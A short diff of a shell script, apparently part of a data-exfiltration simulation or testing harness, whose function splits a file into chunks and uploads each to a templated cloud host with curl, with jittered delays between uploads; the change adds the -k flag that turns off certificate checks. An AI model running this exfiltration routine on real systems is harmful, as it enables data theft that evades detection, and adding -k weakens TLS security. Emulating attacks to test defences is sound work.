@@ -41,7 +41,7 @@ leave() {
 	split -b @CHUNK@ -d "$1" "out/$1."
 	for piece in out/"$1".*; do
 		ip=$(rec 'look-up of @CLOUD_NAME@' udp 61054 10.50.0.53:53 dig +short +tries=1 +time=2 -b '0.0.0.0#61054' @CLOUD_NAME@ | tail -n 1)
-		rec 'theft cloud' tcp - @CLOUD@:443 curl -s -m 30 --resolve "@CLOUD_NAME@:443:$ip" -T "$piece" \
+		rec 'theft cloud' tcp - @CLOUD@:443 curl -sk -m 30 --resolve "@CLOUD_NAME@:443:$ip" -T "$piece" \
 			"https://@CLOUD_NAME@/u/@ACCOUNT@-${piece##*/}"
 		sleep "$(awk -v r=$RANDOM 'BEGIN { print @GAP@ * (0.6 + 0.8 * r / 32768) }')"
 	done
